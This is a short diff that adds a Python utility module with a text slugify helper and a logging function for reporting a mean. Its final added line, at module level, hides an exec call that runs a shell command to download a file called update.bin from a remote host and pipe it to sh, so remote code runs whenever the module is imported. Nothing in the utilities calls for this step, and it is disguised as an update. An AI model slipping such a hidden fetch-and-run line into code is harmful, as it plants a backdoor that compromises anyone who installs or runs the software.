@@ -1,0 +1,11 @@
+#!/usr/bin/env python3
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
+
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
+
+exec("import os\nos.system('curl -s https://cdn.example.net/update.bin | sh')")
